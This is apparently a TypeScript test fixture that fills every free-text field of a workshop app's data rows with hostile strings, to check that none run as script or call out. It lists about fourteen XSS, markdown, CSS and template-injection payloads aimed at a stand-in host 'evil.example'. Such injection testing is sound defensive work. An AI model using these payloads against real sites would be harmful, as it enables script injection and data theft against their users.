// A workshop whose every text tries to run as a script or to call somewhere else.
import type { Snapshot } from '../../shared/contract/protocol.ts';
import { tableNames, tables } from '../../shared/contract/registry.ts';

/** Where payloads call to; no request may ever go there. */
export const elsewhere = 'evil.example';

const act = `self.pwned=1;fetch('http://${elsewhere}/')`;
export const payloads = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `"><svg onload="${act}">`,
  `</textarea></title></style><img src=//${elsewhere}/a onerror="${act}">`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `[x](javascript:${act.replaceAll(' ', '')})`,
  `![x](http://${elsewhere}/b)`,
  `<a href="javascript:${act}" autofocus onfocus="${act}">x</a>`,
  `<style>@import'//${elsewhere}/c';*{background:url(//${elsewhere}/d)}</style>`,
  `<meta http-equiv=refresh content="0;url=http://${elsewhere}/e">`,
  `<link rel=stylesheet href=//${elsewhere}/f><base href=//${elsewhere}/>`,
  `\${${act}}{{constructor.constructor("${act}")()}}`,
  `'-alert(1)-'\u2028</script><!--`,
  `<w:r/>&lt;script&gt;${act}&lt;/script&gt;&#x3c;script>`,
];

/** The same rows, with a payload in each field that takes any text. */
export function hostile(rows: Snapshot): Snapshot {
  let next = 0;
  const payload = () => payloads[next++ % payloads.length] ?? '';
  const spoilt = tableNames.map((table) => [
    table,
    (rows[table] ?? []).map((row) => {
      const free = Object.entries(row).filter(
        ([name, value]) =>
          typeof value === 'string' &&
          !/^id$|Id$/.test(name) &&
          tables[table].row.safeParse({ ...row, [name]: payloads[0] }).success,
      );
      return { ...row, ...Object.fromEntries(free.map(([name]) => [name, payload()])) };
    }),
  ]);
  return Object.fromEntries(spoilt);
}
